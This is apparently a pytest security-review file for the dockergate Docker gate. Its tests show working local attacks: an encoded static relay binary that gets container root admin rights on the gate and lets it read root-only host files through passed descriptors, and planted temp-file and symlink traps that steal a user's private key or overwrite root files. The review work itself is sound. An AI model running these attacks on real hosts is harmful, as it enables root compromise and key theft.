"""Review round 17a: the local attacker on the gate's host, and the operator's files.

A member with a shell on the gate's host attacks dockergate without going through
its API's checks: through the host's file system, the kernel's peer credentials
and the admin CLI's files.

The ``test_finding_*`` tests FAIL on the reviewed code: each asserts the promised
behaviour (a member's container is not the host's root to the gate nor to the host's
files; a client bundle the admin writes is readable by nobody but root and clobbers
nothing). The ``test_works_*`` tests pass and pin the legitimate neighbour.

They reuse the first round's gate (tests/integration/test_review_findings.py: a
member profile with the bind root ``<area>/data``, mounted nosymfollow) and its
users. Only the local ``busybox`` image is used; all traffic stays on loopback.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import http.client
import json
import os
import platform
import shutil
import socket
import ssl
import stat
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.helpers import Gate, UnixUser
from tests.integration import test_review_findings as first_round
from tests.integration.test_hostile import Raw

area = first_round.area
rgate = first_round.rgate
users = first_round.users
cleanup = first_round.cleanup
created = first_round.created
start = first_round.start

pytestmark = pytest.mark.timeout(120)


def _rand() -> str:
    return uuid.uuid4().hex[:8]


def as_uid(uid: int, gid: int, work: Callable[[], bytes]) -> bytes:
    """Run ``work`` in a child that is the unix user (no groups), return its bytes."""
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - child
        code = 0
        try:
            os.close(rd)
            os.setgroups([])
            os.setgid(gid)
            os.setuid(uid)
            out = work()
        except BaseException as exc:
            out, code = f"child failed: {exc!r}".encode(), 1
        finally:
            with contextlib.suppress(BaseException):
                os.write(wr, out)
            os._exit(code)
    os.close(wr)
    chunks = []
    while chunk := os.read(rd, 65536):
        chunks.append(chunk)
    os.close(rd)
    os.waitpid(pid, 0)
    return b"".join(chunks)


# ------------------------------------------------- a member's container is host root

# relay: a 1.5 kB static x86-64 program (raw syscalls, no libc) that runs as root in a
# member's container with the member's bind ``-v <data>/dir:/x``. It listens on /x/s
# (chmod 0777). Per connection it takes one byte of mode and one file descriptor
# (SCM_RIGHTS) from the host user, then
#   'S': connects to that unix socket (through /proc/self/fd/N) as itself, uid 0, and
#        relays one request and its whole answer;
#   'F': reads a name, opens /proc/self/fd/N/<name> and sends its content.
# Its source (gcc -Os -static -nostdlib -fno-pie -no-pie -Wl,-n -s):
#   struct un a = {AF_UNIX, "/x/s"}; unlink; l = socket; bind; chmod 0777; listen;
#   for (;;) { c = accept(l); recvmsg(c, 1 byte mode + SCM_RIGHTS fd);
#     p = "/proc/self/fd/<fd>"; n = read(c, buf, 4096);
#     if (mode == 'S') { t = socket; if (connect(t, p) == 0) { write(t, buf, n);
#                        while (read(t) > 0) write(c); } }
#     if (mode == 'F') { t = open(p + "/" + buf); while (read(t) > 0) write(c); }
#     close(t); close(fd); close(c); }
RELAY = (
    "H4sIAAAAAAACA7VUTWgTURB++dlaK7pVW9CL9LAXFbJWPHgokkBaXmAVpakFb03SIlhaaVbMIUQ0LuZZ4kGKtDcPhfYkRRA2"
    "BZe11Vg9aEEEoYI9KLbGophiWsTGmbe7Sa1QPdiB3X0z830z82beviutSpvb5SKOuMkJgtoE8XPdb9tnvRUI2I4Dzk8E4uXY"
    "bRxvicNzvmsey366wcrRZOPOfFBjNeTfpd7+BjoN0+MnuT5c5+7CMnBW70SlIxDuaKdXP8+CQrNJabk4qrCXITZD2QvKnouC"
    "gRXoB9HNSqIw2cdXQWmYZlVpWW9GdTApDYuCfg7WRhnwEEFhU2A5ipbaKiSQqwNFyYalMZrtlcYVyBjhPv0wOlie8zB+hmpm"
    "4n2zmQ9KY5yewYQ6eBZ0mWPD0jh9GpQmXFwLSjq+TMp6pRm0z6IdF2/MBj9fzGNzIbpmpmppOinN773cyCPrnkryxQdAGxQK"
    "e6x2RAy/1+5bcTSHESHH0CA8I6XV9Mr2lHDhWV3hiyGCB62UFcExEiitspn01JFM+Fh0hJbzqD/SzEtvebpJnIvCTIM0+qGe"
    "EHtyEzbZ0i5q13Ak1Y5DPQorKew7tmQ6xB7z7uuH+AjeKWyNb0bUcHgntaXUToV95UEV9gma/ZDAQbPCQTZgVH2UTSHz1h17"
    "NhmHKQqFVy1tonYbHKFsa5mmV06JN64jLDqdnvYobJHjaHQuH/TGZChRd2MC1w9IUBzFpsWglU7FOMVQa/NSwMBiFLZQLeOb"
    "U0ZqnzUFLNQp4jXV5hL19mA+Vg5GNCkNrZsWWCrzE4XF+z/LZX7e5YQc3+y/cP0VsbUC+S8O9EfleHdvj9wTk7c4nS9+Pq4O"
    "qF0R4lO7EyrxDfTHutQu4ovE/08TdvA9EVLzx31mScG9cf+/y27b5sDwhrK+lr5rA6FpA38/PHjN2HCCfzzKPa9z97o25bvW"
    "cdeLwz9ANq//F4fdgC0QBgAA"
)


class Relay:
    """A member's container running the relay on a bind of a directory she owns."""

    def __init__(self, user: UnixUser, directory: Path) -> None:
        self.user = user
        self.dir = directory

    def ask(self, mode: bytes, target: str, data: bytes, timeout: float = 15.0) -> bytes:
        """As the member: open ``target`` with O_PATH (no permission on the file is
        needed), hand the descriptor to the container's root, send ``data``."""
        path = str(self.dir / "s")

        def work() -> bytes:
            fd = os.open(target, os.O_PATH)
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(timeout)
            s.connect(path)
            socket.send_fds(s, [mode], [fd])
            s.sendall(data)
            out = []
            while chunk := s.recv(65536):
                out.append(chunk)
            return b"".join(out)

        return as_uid(self.user.uid, self.user.gid, work)


@pytest.fixture(scope="module")
def mallory_login(unix_user) -> UnixUser:
    return unix_user("mallory")  # rv-mallory of the first round's users


@contextlib.contextmanager
def running_relay(raw: Raw, user: UnixUser, area: Path, cleanup) -> Iterator[Relay]:
    """The relay in a container ``raw`` creates through the gate, on a bind of a new
    directory ``user`` owns in the team data."""
    if platform.machine() != "x86_64":
        pytest.skip("the relay program is x86-64 code")
    d = area / "data" / f"rv17a-{_rand()}"  # team data she may write (the NFS share)
    d.mkdir()
    os.chown(d, user.uid, user.gid)
    program = gzip.decompress(base64.b64decode(RELAY))

    def drop() -> bytes:
        (d / "relay").write_bytes(program)
        (d / "relay").chmod(0o755)
        return b"ok"

    assert as_uid(user.uid, user.gid, drop) == b"ok"
    cid = created(
        raw,
        {"Image": "busybox", "Cmd": ["/x/relay"], "HostConfig": {"Binds": [f"{d}:/x"]}},
        cleanup,
    )
    r = start(raw, cid)
    assert r.status == 204, (r.status, r.body)
    deadline = time.monotonic() + 10
    while not (d / "s").is_socket():
        assert time.monotonic() < deadline, "the relay did not listen on /x/s"
        time.sleep(0.05)
    try:
        yield Relay(user, d)
    finally:
        with contextlib.suppress(OSError):
            for f in d.iterdir():
                f.unlink()
            d.rmdir()


@pytest.fixture
def relay(users, area, cleanup, mallory_login) -> Iterator[Relay]:
    with running_relay(users["mallory"], mallory_login, area, cleanup) as r:
        yield r


def whoami_through(relay: Relay, gate_socket: str) -> dict:
    r = relay.ask(
        b"S",
        gate_socket,
        b"GET /_dockergate/whoami HTTP/1.1\r\nHost: docker\r\nConnection: close\r\n\r\n",
    )
    head, _, body = r.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 "), r[:300]
    if b" 200 " not in head.split(b"\r\n")[0]:
        return {"status": head.split(b"\r\n")[0].decode(), "body": body.decode("latin-1")}
    return json.loads(body[body.find(b"{") : body.rfind(b"}") + 1])


def test_finding_member_container_talks_to_the_gate_as_root(rgate, relay):
    """High. The gate takes any peer with uid 0 on its socket for the built-in admin
    (``DirectoryAuthenticator._unix``), and a member's container runs as root, uid 0
    on the host (no user namespace; profiles cannot make containers run as another
    user). The socket is not in the container, but a descriptor reaches it: rv-mallory
    (member, bind root ``data``) runs ``docker run -v data/mine:/x busybox
    /x/relay`` (a 1.5 kB static program she wrote there), opens the gate's socket
    with ``O_PATH`` on the host (0666; O_PATH needs no permission on the file) and
    sends that descriptor over the unix socket /x/s that the relay listens on
    (SCM_RIGHTS). The relay connects to ``/proc/self/fd/N``, so the kernel records
    *its* credentials: ``GET /_dockergate/whoami`` came back ``{"user": "root",
    "admin": true, "identified_by": "unix uid 0"}``. From there every request is an
    admin's: ``docker run --privileged -v /:/host``, other users' objects, purge.
    (With ``root_is_admin: false`` the relay could still ``setuid`` to any
    registered member's uid first and be them.) The same descriptor would reach
    /var/run/docker.sock (root:docker 0660, and uid 0 owns it): the daemon without
    the gate (not exercised here: the test engine's socket is in a 0700 directory).
    Note that this profile says ``exec.root: false``, yet the container itself runs
    as root: only ``exec`` is held to it (``check_exec``). Expected: a peer whose
    process lives in a container (its pid namespace, mount namespace or cgroup are
    not the host's) is not the host user its uid says: refused, or taken for the
    container's owner; and a profile should be able to keep containers off uid 0
    (or the gate require a userns-remapped engine) for members with writable
    binds."""
    me = whoami_through(relay, str(rgate.socket))
    assert me.get("user") == "rv-mallory" and not me.get("admin"), (
        f"a member's container process is not taken for the member: {me}"
    )
    assert "in container" in str(me.get("identified_by")), me


def test_works_admins_container_on_the_socket_is_the_admin(rgate, area, cleanup):
    """The neighbour: a container root made through the gate (Portainer with the gate's
    socket mounted) still speaks as root, the admin; so does root on the host."""
    root = UnixUser("root", 0, 0)
    with running_relay(Raw(str(rgate.socket), 0), root, area, cleanup) as relay:
        me = whoami_through(relay, str(rgate.socket))
    assert me.get("user") == "root" and me.get("admin"), me
    assert "in container" in str(me.get("identified_by")), me


@pytest.mark.xfail(
    strict=True,
    reason="known limit (README): a container of a rootful engine is the host's root to "
    "descriptors handed to it; the gate sees API calls, not descriptors",
)
def test_finding_member_container_reads_root_only_host_files(area, relay):
    """High. The same relay, handed an ``O_PATH`` descriptor of a host directory the
    member may only traverse, opens ``/proc/self/fd/N/<name>`` as root (with
    CAP_DAC_OVERRIDE, in Docker's default set) in the host's file system, outside
    the container's mount namespace and outside every bind root: rv-mallory read a
    0600 root-owned file (on a real host: /etc/shadow, /root/.ssh, the gate's CA key
    in /var/lib/dockergate/pki, which is 0700, but /var/lib is searchable). So a
    member with a writable bind mount is root on the host, whatever the gate checks
    on the API: "no host access beyond the team's data" does not hold. Expected:
    the member gets nothing (a container of a non-admin does not run as the host's
    root: a profile key forcing a non-root ``User`` and ``no-new-privileges``, or a
    refusal to serve writable binds to non-admins unless the engine runs with
    userns-remap)."""
    secret_dir = area / f"rootonly-{_rand()}"
    secret_dir.mkdir(mode=0o711)
    secret = secret_dir / "key"
    secret.write_text("ROOT-ONLY-17a\n")
    secret.chmod(0o600)
    try:
        out = relay.ask(b"F", str(secret_dir), b"key")
    finally:
        secret.unlink()
        secret_dir.rmdir()
    assert b"ROOT-ONLY-17a" not in out, "a member read a root-only host file"


def test_works_member_binds_team_data_and_runs_as_usual(users, area, cleanup, direct_client):
    """The legitimate neighbour: a member's container binds the team data and works
    in it (writes a file the member sees on the host)."""
    d = area / "data" / f"rv17a-ok-{_rand()}"
    d.mkdir()
    try:
        cid = created(
            users["mallory"],
            {
                "Image": "busybox",
                "Cmd": ["sh", "-c", "echo hello > /x/out"],
                "HostConfig": {"Binds": [f"{d}:/x"]},
            },
            cleanup,
        )
        assert start(users["mallory"], cid).status == 204
        assert direct_client.containers.get(cid).wait(timeout=30)["StatusCode"] == 0
        assert (d / "out").read_text() == "hello\n"
    finally:
        with contextlib.suppress(OSError):
            (d / "out").unlink()
            d.rmdir()


# ------------------------------------------- `dockergate user cert --out` into a trap


@pytest.fixture
def trap_dir(rgate: Gate, mallory_login: UnixUser) -> Iterator[Path]:
    """A directory rv-mallory owns where the admin will write rv-victim's bundle, as
    `mkdir /tmp/victim-bundle` before the admin's `user cert victim --out
    /tmp/victim-bundle` (the README's own example path is in /tmp)."""
    d = rgate.state_dir.parent / f"victim-bundle-{_rand()}"
    d.mkdir(mode=0o755)
    os.chown(d, mallory_login.uid, mallory_login.gid)
    yield d
    for f in d.iterdir():
        f.unlink()
    d.rmdir()


def test_finding_user_cert_writes_the_key_into_a_file_the_directory_owner_planted(
    rgate, users, trap_dir, mallory_login
):
    """High. ``CertificateAuthority.write_bundle`` (listen/pki.py ``_write``) writes
    each file to ``<dir>/.<name>.tmp`` with ``os.open(O_WRONLY|O_CREAT|O_TRUNC)``
    (no O_EXCL, no O_NOFOLLOW), ``fchmod``s it and renames it; ``user cert --out``
    takes an existing directory as it is. rv-mallory created the directory and in it
    an empty ``.key.pem.tmp`` of her own (0666); the admin ran ``dockergate user cert
    rv-victim --out DIR``: root opened her file, wrote the victim's private key into
    it and renamed it to key.pem, which is still hers (0600, but owned by her). She
    read it and, with cert.pem (0644), was rv-victim over TLS. Expected: the bundle's
    files are created anew (O_EXCL|O_NOFOLLOW, in a fresh directory the command
    makes, or refuse a directory not owned by root/the caller): root-owned 0600 key,
    nothing of hers reused."""
    m = mallory_login

    def plant() -> bytes:
        tmp = trap_dir / ".key.pem.tmp"
        tmp.touch()
        tmp.chmod(0o666)
        return b"ok"

    assert as_uid(m.uid, m.gid, plant) == b"ok"
    rgate.dockergate("user", "cert", "rv-victim", "--out", str(trap_dir), check=False)
    stolen = as_uid(m.uid, m.gid, lambda: (trap_dir / "key.pem").read_bytes())
    who = None
    if b"PRIVATE KEY" in stolen:
        copy = rgate.state_dir.parent / f"stolen-{_rand()}"
        copy.mkdir()
        try:
            (copy / "key.pem").write_bytes(stolen)
            (copy / "cert.pem").write_bytes((trap_dir / "cert.pem").read_bytes())
            ctx = ssl.create_default_context(cafile=str(rgate.state_dir / "pki" / "ca.pem"))
            ctx.load_cert_chain(str(copy / "cert.pem"), str(copy / "key.pem"))
            conn = http.client.HTTPSConnection("127.0.0.1", rgate.tls_port, context=ctx)
            conn.request("GET", "/_dockergate/whoami", headers={"Host": "docker"})
            who = json.loads(conn.getresponse().read()).get("user")
            conn.close()
        finally:
            shutil.rmtree(copy)
    assert b"PRIVATE KEY" not in stolen, (
        f"rv-mallory read rv-victim's new private key (key.pem is "
        f"{stat.filemode((trap_dir / 'key.pem').stat().st_mode)}, uid "
        f"{(trap_dir / 'key.pem').stat().st_uid}); over TLS with it the gate says: {who}"
    )


def test_finding_user_cert_follows_a_planted_symlink_as_root(rgate, trap_dir, mallory_login):
    """High. Same code path: rv-mallory made ``.cert.pem.tmp`` in her directory a
    symlink to a root-owned 0600 file; ``dockergate user cert rv-victim --out DIR``
    (as root) truncated that file, wrote the certificate into it and ``fchmod``ed it
    0644 (``O_CREAT|O_TRUNC`` follows the link; the rename then moves the link, not
    the file). On a real host she can point it at /var/lib/dockergate/dockergate.db
    (the store: the gate then refuses everyone), the CA key, or /etc/shadow. Linux's
    protected_symlinks does not apply: her directory is not sticky and
    world-writable. Expected: the target is untouched (the command refuses or writes
    only new files of its own)."""
    target = rgate.state_dir.parent / f"root-only-{_rand()}"
    target.write_text("ROOT-DATA\n")
    target.chmod(0o600)
    m = mallory_login
    try:
        assert (
            as_uid(m.uid, m.gid, lambda: os.symlink(target, trap_dir / ".cert.pem.tmp") or b"ok")
            == b"ok"
        )
        rgate.dockergate("user", "cert", "rv-victim", "--out", str(trap_dir), check=False)
        after = target.read_text()
        mode = stat.S_IMODE(target.stat().st_mode)
    finally:
        target.unlink()
    assert after == "ROOT-DATA\n" and mode == 0o600, (
        f"root's file was overwritten through her symlink: now {mode:o}, {after[:40]!r}"
    )


def test_works_user_cert_into_a_new_directory(rgate, users, tmp_path):
    """The legitimate neighbour: a bundle written where the admin chose, a new
    directory: the key is root's and 0600, the certificate works over TLS."""
    out = tmp_path / "bundle"
    rgate.dockergate("user", "cert", "rv-victim", "--out", str(out))
    key = (out / "key.pem").stat()
    assert key.st_uid == 0 and stat.S_IMODE(key.st_mode) == 0o600
    assert stat.S_IMODE((out / "cert.pem").stat().st_mode) == 0o644


# ------------------------------------- a cgroup is only a name: the pid namespace decides


def _cgroup_base() -> Path:
    """A cgroup hierarchy root may make groups in (v2, or a v1 controller's)."""
    root = Path("/sys/fs/cgroup")
    if (root / "cgroup.procs").exists():
        return root
    for name in ("pids", "freezer", "systemd", "cpu"):
        if (root / name / "cgroup.procs").exists():
            return root / name
    pytest.skip("no cgroup hierarchy to make a group in")


def _whoami_from_a_group_named(rgate: Gate, cid: str, m: UnixUser) -> dict:
    """``whoami`` from a process of ``m`` on the host, moved into a cgroup named like
    container ``cid`` (as systemd's delegation would let a user)."""
    parent_group = _cgroup_base() / f"dgtest-rv17a-{_rand()}"
    fake = parent_group / cid
    fake.mkdir(parents=True)
    go_r, go_w = os.pipe()
    out_r, out_w = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - child
        code = 0
        try:
            os.close(go_w)
            os.close(out_r)
            os.read(go_r, 1)  # moved into the fake group by now
            os.setgroups([])
            os.setgid(m.gid)
            os.setuid(m.uid)
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(15)
            s.connect(str(rgate.socket))
            s.sendall(b"GET /_dockergate/whoami HTTP/1.1\r\nHost: d\r\nConnection: close\r\n\r\n")
            reply = b""
            while chunk := s.recv(65536):
                reply += chunk
            os.write(out_w, reply)
        except BaseException as exc:
            os.write(out_w, repr(exc).encode())
            code = 1
        finally:
            os._exit(code)
    os.close(go_r)
    os.close(out_w)
    try:
        (fake / "cgroup.procs").write_text(str(pid))
        assert cid.encode() in Path(f"/proc/{pid}/cgroup").read_bytes()
        os.write(go_w, b"x")
        reply = b""
        while chunk := os.read(out_r, 65536):
            reply += chunk
    finally:
        os.close(go_w)
        os.close(out_r)
        os.waitpid(pid, 0)
        fake.rmdir()
        parent_group.rmdir()
    body = reply.partition(b"\r\n\r\n")[2]
    return json.loads(body[body.find(b"{") : body.rfind(b"}") + 1])


def test_works_a_cgroup_named_like_a_container_is_not_the_container(
    rgate, users, cleanup, mallory_login
):
    """On Debian, systemd delegates a cgroup subtree to each logged-in user: they may
    make a group named like anyone's container ID and move their own process into it.
    The gate must not take that process for the container's owner: rv-mallory's host
    process in a group named like rv-victim's running container is rv-mallory (it is
    not in the container's pid namespace). Root makes the group here, as systemd's
    delegation would let her."""
    victim = users["victim"]
    cid = created(victim, {"Image": "busybox", "Cmd": ["sleep", "60"]}, cleanup)
    assert start(victim, cid).status == 204
    me = _whoami_from_a_group_named(rgate, cid, mallory_login)
    assert me.get("user") == "rv-mallory" and "in container" not in me["identified_by"], me


def test_works_a_group_named_like_an_admins_host_pid_container_is_not_the_admin(
    rgate, cleanup, mallory_login
):
    """The same with the admin's container that shares the host's pids (a node
    exporter, ``--pid host``): its processes are in the host's pid namespace like
    hers, but not in its mount namespace; she stays rv-mallory (code review of the
    17a fix: she was root, the admin)."""
    root = Raw(str(rgate.socket), 0)
    cid = created(
        root,
        {"Image": "busybox", "Cmd": ["sleep", "60"], "HostConfig": {"PidMode": "host"}},
        cleanup,
    )
    assert start(root, cid).status == 204
    me = _whoami_from_a_group_named(rgate, cid, mallory_login)
    assert me.get("user") == "rv-mallory" and not me.get("admin"), me
